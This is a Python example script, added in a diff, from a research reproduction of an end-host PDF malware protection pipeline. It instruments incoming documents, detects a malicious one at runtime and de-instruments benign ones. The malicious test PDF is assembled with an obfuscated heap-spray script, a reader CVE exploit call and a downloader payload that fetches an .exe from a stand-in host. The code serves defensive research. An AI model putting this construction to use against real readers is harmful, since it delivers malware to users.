@@ -1,0 +1,106 @@
+"""End-host protection workflow (the paper's deployment story).
+
+Simulates a user's day: documents arrive (download/mail), each is
+instrumented by the front-end on arrival, several are opened
+simultaneously in one reader session, the runtime detector watches, and
+documents proven benign are de-instrumented in the background so later
+opens cost nothing.
+
+Run:  python examples/end_host_protection.py
+"""
+
+import random
+
+from repro.core.deinstrument import DeinstrumentationPolicy
+from repro.core.pipeline import ProtectionPipeline
+from repro.corpus import js_snippets as js
+from repro.pdf.builder import DocumentBuilder
+from repro.pdf.document import PDFDocument
+from repro.reader.exploits import CVE
+from repro.reader.payload import Payload
+
+
+def incoming_documents():
+    """Three downloads: two legitimate, one exploit kit product."""
+    invoice = DocumentBuilder()
+    invoice.add_page("INVOICE #2231 — net 30")
+    invoice.add_javascript(
+        'var f = this.getField("total"); if (f.value === "") app.alert("Fill in the total");'
+    )
+    yield "invoice-2231.pdf", invoice.to_bytes()
+
+    newsletter = DocumentBuilder()
+    for week in range(4):
+        newsletter.add_page(f"Week {week + 1} digest")
+    newsletter.pad_with_objects(30)
+    newsletter.add_javascript(js.benign_report_script(400, 2048, random.Random(4)))
+    yield "newsletter.pdf", newsletter.to_bytes()
+
+    rng = random.Random(1337)
+    trap = DocumentBuilder()
+    trap.add_page("")  # one blank page, as usual for malware
+    trap.add_javascript(
+        js.spray_script(
+            180,
+            Payload.downloader("http://cdn.totally-legit.example/reader_update.exe",
+                               "C:\\Temp\\reader_update.exe"),
+            rng=rng,
+            exploit_call=js.exploit_call_for(CVE.MEDIA_NEW_PLAYER, rng),
+        ),
+        hex_obfuscate_keyword=True,
+        encoding_levels=2,
+    )
+    yield "crypto-whitepaper.pdf", trap.to_bytes()
+
+
+def main() -> None:
+    pipeline = ProtectionPipeline(
+        deinstrument_policy=DeinstrumentationPolicy(opens_before=1)
+    )
+
+    print("=== Phase I: instrument on arrival ===")
+    protected_docs = []
+    for name, data in incoming_documents():
+        protected = pipeline.protect(data, name)
+        protected_docs.append(protected)
+        features = protected.features
+        print(
+            f"  {name:<26} js={str(features.has_javascript):<5} "
+            f"static F1..F5={features.binary()} "
+            f"(+{len(protected.data) - len(data)} bytes monitoring code)"
+        )
+
+    print("\n=== Phase II: user opens everything at once ===")
+    session = pipeline.session()
+    reports = [session.open(p, fire_close=False) for p in protected_docs]
+    for protected, report in zip(protected_docs, reports):
+        print(f"  {protected.name:<26} -> {report.verdict.summary()}")
+
+    print("\n=== Alerts & confinement ===")
+    for alert in session.monitor.alerts:
+        print(f"  ALERT on {alert.verdict.document} (malscore {alert.verdict.malscore:g})")
+        for feature in alert.verdict.features.fired_names():
+            print(f"    evidence : {feature}")
+        for action in alert.confinement_actions:
+            print(f"    action   : {action}")
+    session.close()
+
+    print("\n=== Background de-instrumentation of proven-benign docs ===")
+    for protected, report in zip(protected_docs, reports):
+        restored = pipeline.maybe_deinstrument(protected, report)
+        if restored is None:
+            print(f"  {protected.name:<26} kept instrumented")
+        else:
+            doc = PDFDocument.from_bytes(restored)
+            still_wrapped = any(
+                "SOAP.request" in doc.get_javascript_code(a)
+                for a in doc.iter_javascript_actions()
+            )
+            print(
+                f"  {protected.name:<26} de-instrumented "
+                f"(monitoring code left: {still_wrapped})"
+            )
+
+
+if __name__ == "__main__":
+    main()
